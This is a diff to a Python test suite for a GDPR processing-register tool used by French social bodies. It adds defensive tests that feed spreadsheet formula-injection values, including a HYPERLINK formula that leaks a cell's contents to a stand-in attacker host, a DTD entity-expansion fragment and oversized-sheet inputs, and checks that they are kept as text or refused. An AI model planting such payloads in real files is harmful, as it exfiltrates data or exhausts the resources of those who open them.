@@ -32,8 +32,15 @@ def test_init_is_complete_except_what_only_the_structure_knows(tmp_path: Path) -
     assert category.convention == "2026-DPID-CCAS-BETHUNE-1.2"
     assert category.purposes and category.data_categories and category.data_subjects
     assert [s.name for s in category.subprocessors] == ["Hébergeur des dossiers sociaux (exemple)"]
-    problems = check_register(register, REGISTERS)
-    assert sorted(p.field for p in problems) == sorted(f"controllers[0].processings[0].security.{k}" for k in SECURITY)
+    # Option 2: the four security headings come from the measures of the security annex the CCAS answers for.
+    assert check_register(register, REGISTERS) == []
+    security = category.security
+    assert "Sauvegarder les données (CNIL-16) : sauvegarde quotidienne chiffrée" in security.restore_access
+    assert "Chiffrer les données et garantir leur intégrité (CNIL-21)" in security.pseudonymisation_encryption
+    assert "Sécuriser les serveurs (CNIL-09) (par son sous-traitant)" in security.confidentiality_integrity_availability
+    assert security.regular_testing.endswith("(selon Annexe 4 - Sécurité et Confidentialité du 1er janvier 2026).")
+    # Measures of the Département alone, and excluded ones, are not the structure's to describe.
+    assert "CNIL-07" not in yaml.safe_dump(category.model_dump(mode="json"), allow_unicode=True)
 
 
 def test_init_for_a_structure_without_dpo_also_asks_for_its_contact(tmp_path: Path) -> None:
@@ -74,7 +81,8 @@ def test_xlsx_has_frozen_header_notes_dropdown_protection_and_yellow_cells(tmp_p
     from openpyxl import load_workbook
 
     sheet = tmp_path / "r.xlsx"
-    sheet.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
+    # ADIL (security option 1): its security headings are left to the structure, hence yellow.
+    sheet.write_bytes(export(load_register(init(tmp_path, ADIL_SIRET)), "xlsx"))
     book = load_workbook(sheet)
     processings = book["Traitements"]
     assert processings.freeze_panes == "A2"
@@ -209,7 +217,7 @@ def test_libreoffice_reads_the_ods_protection_unlocked_cells_and_list(tmp_path: 
 
     soffice = require_program("soffice", "libreoffice")
     ods = tmp_path / "registre.ods"
-    ods.write_bytes(export(load_register(init(tmp_path)), "ods"))
+    ods.write_bytes(export(load_register(init(tmp_path, ADIL_SIRET)), "ods"))  # option 1: security left to fill
     subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to", "xlsx",
                     "--outdir", str(tmp_path / "x"), str(ods)], check=True, capture_output=True, timeout=300)
     sheet = load_workbook(tmp_path / "x" / "registre.xlsx")["Traitements"]
@@ -218,3 +226,205 @@ def test_libreoffice_reads_the_ods_protection_unlocked_cells_and_list(tmp_path: 
     assert not sheet["L2"].protection.locked and sheet["L2"].fill.fgColor.rgb.endswith("FFF2CC")  # to fill
     formulas = [v.formula1 for v in sheet.data_validations.dataValidation]
     assert any("destruction" in f for f in formulas)
+
+
+# --- cells are data, never formulas (issue 13, point 1) -------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1;"Cliquez")', "=1+1", "+33 6 12 34 56 78", "-", "@x", "'=1+1"]
+
+
+def _hostile_register(tmp_path: Path):  # type: ignore[no-untyped-def]
+    from dpa_kit.register import Register
+
+    data = load_register(init(tmp_path)).model_dump(mode="json")
+    processing = data["controllers"][0]["processings"][0]
+    processing["security"] = {k: HOSTILE[i] for i, k in enumerate(SECURITY)}
+    processing["purposes"] = HOSTILE
+    data["processor"]["dpo"] = {"name": "=1+1", "email": "dpo@ccas.example", "phone": "+33 6 12 34 56 78"}
+    return Register.model_validate(data)
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
+def test_formula_like_values_are_written_as_text_and_read_back_exactly(tmp_path: Path, fmt: str) -> None:
+    import zipfile
+
+    register = _hostile_register(tmp_path)
+    sheet = tmp_path / f"r.{fmt}"
+    sheet.write_bytes(export(register, fmt))
+    with zipfile.ZipFile(sheet) as archive:
+        xml = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(".xml"))
+    if fmt == "xlsx":
+        assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere
+        assert b"HYPERLINK" in xml
+    else:
+        assert b"table:formula" not in xml
+    assert import_sheets(sheet) == register
+
+
+def test_the_register_csv_neutralises_leading_formula_characters(tmp_path: Path) -> None:
+    from dpa_kit.tables import read_rows
+
+    out = tmp_path / "r.csv"
+    out.write_bytes(export(_hostile_register(tmp_path), "csv"))
+    import csv
+    import io
+
+    cells = [c for r in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";") for c in r]
+    assert "'=HYPERLINK(" in "".join(cells) and not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    row = read_rows(out)[1]
+    security = [row[i] for i in range(11, 15)]
+    assert security == HOSTILE[:4]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
+def test_tables_of_the_consolidation_and_breach_register_hold_data_only(tmp_path: Path, fmt: str) -> None:
+    from dpa_kit.tables import read_rows, write_table
+
+    out = tmp_path / f"t.{fmt}"
+    write_table(out, fmt, "Registre", ["A", "B"], [[v, 1] for v in HOSTILE] + [["\tx", None], ["\rx", -2]])
+    rows = read_rows(out)
+    assert [r[0] for r in rows[1:]] == [*HOSTILE, "\tx", "\rx"]
+    if fmt == "csv":
+        import csv
+        import io
+
+        cells = [c for r in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";") for c in r]
+        assert [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}] == ["-2"]  # a number stays a number
+    if fmt == "xlsx":
+        import zipfile
+
+        with zipfile.ZipFile(out) as archive:
+            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+
+
+def test_consolidating_a_register_with_a_formula_writes_no_formula(tmp_path: Path) -> None:
+    import zipfile
+
+    from dpa_kit.register import dump
+
+    folder = tmp_path / "registres"
+    folder.mkdir()
+    (folder / "r.yaml").write_text(dump(_hostile_register(tmp_path / "a")), encoding="utf-8")
+    out = tmp_path / "conso.xlsx"
+    assert run("register", "consolidate", folder, "-o", out).exit_code == 0
+    with zipfile.ZipFile(out) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+
+
+@pytest.mark.interop
+def test_libreoffice_does_not_compute_a_formula_written_by_a_structure(tmp_path: Path) -> None:
+    from dpa_kit.tables import write_table
+
+    soffice = require_program("soffice", "libreoffice")
+    out = tmp_path / "t.xlsx"
+    write_table(out, "xlsx", "Registre", ["A"], [["=1+1"], ["=HYPERLINK(\"http://evil.example\";\"Cliquez\")"]])
+    subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to", "csv",
+                    "--outdir", str(tmp_path / "csv"), str(out)], check=True, capture_output=True, timeout=300)
+    lines = (tmp_path / "csv" / "t.csv").read_text(encoding="utf-8", errors="replace").splitlines()
+    assert lines[1] == "=1+1" and "HYPERLINK" in lines[2]
+
+
+# --- hostile spreadsheets are refused cleanly, within bounds (issue 13, points 2 and 3) ------------
+
+def _zip_with(path: Path, parts: dict[str, bytes]) -> Path:
+    import zipfile
+
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return path
+
+
+def _rewrite_part(source: Path, target: Path, name: str, edit) -> Path:  # type: ignore[no-untyped-def]
+    import zipfile
+
+    with zipfile.ZipFile(source) as archive:
+        parts = {n: archive.read(n) for n in archive.namelist()}
+    parts[name] = edit(parts[name])
+    return _zip_with(target, parts)
+
+
+LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>\n')
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
+def test_a_doctype_with_entities_is_refused_by_register_import(tmp_path: Path, fmt: str) -> None:
+    source = tmp_path / f"r.{fmt}"
+    source.write_bytes(export(load_register(init(tmp_path)), fmt))
+    part = "xl/workbook.xml" if fmt == "xlsx" else "content.xml"
+    bad = _rewrite_part(source, tmp_path / f"bad.{fmt}", part,
+                        lambda data: LAUGHS + data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else LAUGHS + data)
+    result = run("register", "import", bad, "-o", tmp_path / "back.yaml")
+    assert result.exit_code == 2, result.output
+    assert "DTD ou une entité" in result.stderr and "Traceback" not in result.output
+    assert not (tmp_path / "back.yaml").exists()
+
+
+def test_an_xlsx_cell_at_xfd1048576_is_refused_quickly(tmp_path: Path) -> None:
+    source = tmp_path / "r.xlsx"
+    source.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
+
+    def far_cell(data: bytes) -> bytes:
+        import re
+
+        data = re.sub(rb"<dimension [^>]*/>", b"", data)  # no declared size: counted while reading
+        return data.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'
+                                              b"</row></sheetData>")
+
+    bad = _rewrite_part(source, tmp_path / "bad.xlsx", "xl/worksheets/sheet2.xml", far_cell)
+    result = run("register", "import", bad, "-o", tmp_path / "back.yaml")
+    assert result.exit_code == 2, result.output
+    assert "feuille Responsables : plus de 10000 lignes" in result.stderr and "refusé" in result.stderr
+
+
+def test_an_xlsx_declaring_a_huge_dimension_is_refused(tmp_path: Path) -> None:
+    import re
+
+    source = tmp_path / "r.xlsx"
+    source.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
+    bad = _rewrite_part(source, tmp_path / "bad.xlsx", "xl/worksheets/sheet2.xml",
+                        lambda d: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', d))
+    result = run("register", "import", bad, "-o", tmp_path / "back.yaml")
+    assert result.exit_code == 2 and "lignes déclarées (1048576)" in result.stderr
+
+
+def test_an_ods_row_repeated_a_million_times_is_refused(tmp_path: Path) -> None:
+    source = tmp_path / "r.ods"
+    source.write_bytes(export(load_register(init(tmp_path)), "ods"))
+    row = (b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="string">'
+           b"<text:p>x</text:p></table:table-cell></table:table-row>")
+    bad = _rewrite_part(source, tmp_path / "bad.ods", "content.xml", lambda d: d.replace(b"</table:table>", row + b"</table:table>", 1))
+    result = run("register", "import", bad, "-o", tmp_path / "back.yaml")
+    assert result.exit_code == 2, result.output
+    assert "plus de 10000 lignes" in result.stderr
+
+
+def test_trailing_empty_rows_repeated_by_libreoffice_are_fine(tmp_path: Path) -> None:
+    source = tmp_path / "r.ods"
+    register = load_register(init(tmp_path))
+    source.write_bytes(export(register, "ods"))
+    padding = (b'<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="1024"/>'
+               b"</table:table-row>")
+    padded = _rewrite_part(source, tmp_path / "padded.ods", "content.xml",
+                           lambda d: d.replace(b"</table:table>", padding + b"</table:table>"))
+    assert import_sheets(padded) == register
+
+
+@pytest.mark.parametrize("ref", ["inf", "nan", "-inf", "1e400", "2.5"])
+def test_a_non_integer_reference_is_a_cell_error(tmp_path: Path, ref: str) -> None:
+    sheet = tmp_path / "r.xlsx"
+    sheet.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
+    _edit_xlsx(sheet, "Traitements", "A2", ref)
+    result = run("register", "import", sheet, "-o", tmp_path / "back.yaml")
+    assert result.exit_code == 2, result.output
+    assert "feuille Traitements, cellule A2 : nombre entier attendu" in result.stderr
+
+
+@pytest.mark.parametrize("data", [b"", b"PK\x03\x04garbage", b"not a zip at all" * 100])
+def test_garbage_spreadsheets_are_refused(tmp_path: Path, data: bytes) -> None:
+    for fmt in ("xlsx", "ods"):
+        bad = tmp_path / f"bad.{fmt}"
+        bad.write_bytes(data)
+        result = run("register", "import", bad, "-o", tmp_path / "back.yaml")
+        assert result.exit_code == 2, result.output
+        assert "illisible" in result.stderr
